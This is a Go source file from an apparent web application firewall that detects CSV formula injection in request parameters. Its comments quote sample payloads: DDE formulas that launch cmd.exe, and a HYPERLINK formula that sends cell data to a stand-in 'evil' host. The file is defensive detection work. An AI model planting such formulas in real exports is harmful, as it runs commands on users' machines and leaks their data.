package detect

import (
	"strings"

	"github.com/rampartwaf/rampart/internal/request"
)

// Formula injection (CSV injection): a spreadsheet formula stored by the application and
// later exported to a CSV file that someone opens in Excel, LibreOffice or Google
// Sheets. It is raised as CMDEXE, as the dangerous forms run a command on the machine
// of whoever opens the export.
//
// A cell is the start of the value, or what follows a comma, semicolon, tab, line break
// or quote (a CSV upload is one value); it is a formula when it starts with '=', '+',
// '-' or '@'. A formula matches when it holds:
//
//   - a DDE call, the form Excel runs a program with: cmd|' /C calc'!A0,
//     MSEXCEL|'\..\..\Windows\System32\cmd.exe /c calc'!'', a word, '|', a quoted
//     command line and '!';
//   - a DDE( or DDEAUTO call;
//   - a function that fetches a URL (HYPERLINK, WEBSERVICE, IMPORTXML, IMPORTDATA,
//     IMPORTHTML, IMPORTFEED, IMAGE) with a cell reference joined into its arguments
//     or a CONCAT call (=HYPERLINK("http://evil/?"&A1,"x")): it sends the sheet's data
//     away.
//
// Not matched: ordinary formulas (=SUM(A1:A3), =A1*2), a link without a cell reference
// (=HYPERLINK("https://example.com","site")), negative numbers, @mentions, and pipes or
// quotes in text that is no formula.

func init() {
	registerValueFiltered(CMDEXE, valueNeed{minLen: 6, any: classesOf("=+-@")}, func(_ *request.Param, v string, _ byteClass) (string, bool) {
		return matchFormula(v)
	})
}

// formulaFetchers are spreadsheet functions that request a URL.
var formulaFetchers = [...]string{"hyperlink(", "webservice(", "importxml(", "importdata(", "importhtml(", "importfeed(", "image("}

func matchFormula(v string) (string, bool) {
	for i := 0; i < len(v); i++ {
		c := v[i]
		if c != '=' && c != '+' && c != '-' && c != '@' {
			continue
		}
		if i > 0 && strings.IndexByte(",;\t\r\n\"'", v[i-1]) < 0 {
			continue
		}
		cell := v[i:]
		if end := strings.IndexAny(cell, "\r\n"); end >= 0 {
			cell = cell[:end]
		}
		if f, ok := formulaCell(cell); ok {
			return around(v, i, i+len(f)), true
		}
	}
	return "", false
}

// formulaCell judges one cell that starts with a formula prefix and returns the part
// that matched, from the start.
func formulaCell(cell string) (string, bool) {
	// DDE: word|'command'!
	for k := strings.IndexByte(cell, '|'); k > 0; {
		j := k
		for j > 0 && (isAlnum(cell[j-1]) || cell[j-1] == '_' || cell[j-1] == '.') {
			j--
		}
		rest := strings.TrimLeft(cell[k+1:], " ")
		if j < k && len(rest) > 1 && (rest[0] == '\'' || rest[0] == '"') {
			if e := strings.IndexByte(rest[1:], rest[0]); e >= 0 {
				after := strings.TrimLeft(rest[1+e+1:], " ")
				if strings.HasPrefix(after, "!") {
					return cell[:len(cell)-len(after)+1], true
				}
			}
		}
		n := strings.IndexByte(cell[k+1:], '|')
		if n < 0 {
			break
		}
		k += 1 + n
	}
	for off := 0; off < len(cell); {
		k := indexFold(cell[off:], "dde")
		if k < 0 {
			break
		}
		k += off
		if (hasPrefixFold(cell[k:], "dde(") || hasPrefixFold(cell[k:], "ddeauto")) && !isAlnum(cell[k-1]) {
			return cell[:k+3], true
		}
		off = k + 3
	}
	for _, fn := range formulaFetchers {
		k := indexFold(cell, fn)
		if k < 0 || k > 0 && isAlnum(cell[k-1]) {
			continue
		}
		args := cell[k+len(fn):]
		if indexFold(args, "http") >= 0 && (joinsCellRef(args) || indexFold(args, "concat") >= 0) {
			return cell, true
		}
	}
	return "", false
}

// joinsCellRef reports an '&' followed by a cell reference (A1, $B$12, Sheet1!C3) or a
// CONCAT call: a formula building a string out of the sheet's data.
func joinsCellRef(s string) bool {
	for k := strings.IndexByte(s, '&'); k >= 0; {
		r := strings.TrimLeft(s[k+1:], " $")
		if hasPrefixFold(r, "concat") {
			return true
		}
		j := 0
		for j < len(r) && isAlpha(r[j]) {
			j++
		}
		if j > 0 && j <= 3 {
			d := j
			if d < len(r) && r[d] == '$' {
				d++
			}
			if d < len(r) && isDigit(r[d]) {
				return true
			}
		}
		n := strings.IndexByte(s[k+1:], '&')
		if n < 0 {
			break
		}
		k += 1 + n
	}
	return false
}
